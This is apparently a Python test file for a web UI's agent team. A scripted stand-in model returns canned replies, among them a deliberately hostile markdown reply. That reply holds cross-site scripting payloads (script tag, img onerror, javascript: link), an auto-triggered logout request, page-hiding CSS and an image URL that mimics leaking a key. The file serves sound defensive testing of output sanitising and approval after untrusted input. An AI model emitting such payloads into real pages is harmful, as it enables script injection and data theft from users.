"""A team for the web UI's tests, and the script that plays its models: a clerk who reads a note, then writes one."""

import json
from typing import Any

from agents import function_tool
from standins.scripted import Reply, Script, routed

from sparkctl.agents.core.approval import after_untrusted
from sparkctl.agents.core.kind import Kind
from sparkctl.agents.core.run import Context

HOSTILE = """# A heading

<script>document.title = "owned"</script>
<img src="x" onerror="document.title = 'owned'">
<div hx-get="/logout" hx-trigger="load">now</div>
<style>body { display: none }</style>
[press here](javascript:document.title='owned') ![picture](http://127.0.0.1:9/leak?key=1)

| part | figure |
|---|---|
| **bold** | `1 < 2` |
"""
CITED = "Tensor parallelism sends its tensors over the fabric, at up to **200 Gbit/s** [1]. Nobody said this [7]."
SLOW_WORDS = 2_000


@function_tool
async def read_note(context: Context) -> str:
    """Read a note from outside."""
    context.context.untrusted = True
    return "a note: <b>write</b> me an answer"


@function_tool(needs_approval=after_untrusted)
async def write_note(context: Context, text: str) -> str:
    """Write a note."""
    return f"written: {text}"


CLERK = Kind(
    description="Reads and writes notes.",
    instructions="You are a clerk.",
    capabilities=("notes",),
    words=("note", "clerk"),
    tools=lambda: (read_note, write_note),
)
TEAM: dict[str, Any] = {
    "supervisor": {"kind": "supervisor"},
    "coding": {"kind": "plain", "description": "Writes code."},
    "rag": {"kind": "rag"},
    "clerk": {"kind": "ui_team:CLERK"},
}


def talk(body: dict[str, Any]) -> Reply:
    """By what the last message says: hostile, slow, dies, clerk, rag; else `routed`."""
    names = {tool["function"]["name"] for tool in body.get("tools", ())}
    said = str(next(one["content"] for one in reversed(body["messages"]) if one["role"] == "user"))
    if "read_note" in names:
        outputs = sum(one["role"] == "tool" for one in body["messages"][_last_user(body) :])
        steps = (Reply(calls=(("read_note", "{}"),)), Reply(calls=(("write_note", '{"text": "a <i>note</i>"}'),)))
        return steps[outputs] if outputs < len(steps) else Reply(text="The note is dealt with.")
    if "search_knowledge_base" in names:
        found = any(one["role"] == "tool" for one in body["messages"][_last_user(body) :])
        query = json.dumps({"query": "tensors between both Sparks"})
        return Reply(text=CITED) if found else Reply(calls=(("search_knowledge_base", query),))
    if any(name.startswith("transfer_to_") for name in names):
        return routed(body)
    if "hostile" in said:
        return Reply(text=HOSTILE)
    if "slow" in said:
        return Reply(text=" ".join(f"word{i}" for i in range(SLOW_WORDS)), delay=0.1)
    if "dies" in said:
        return Reply(text="this breaks off soon", dies_after=2)
    return routed(body)


def _last_user(body: dict[str, Any]) -> int:
    return max(i for i, one in enumerate(body["messages"]) if one["role"] == "user")


TALK: Script = talk
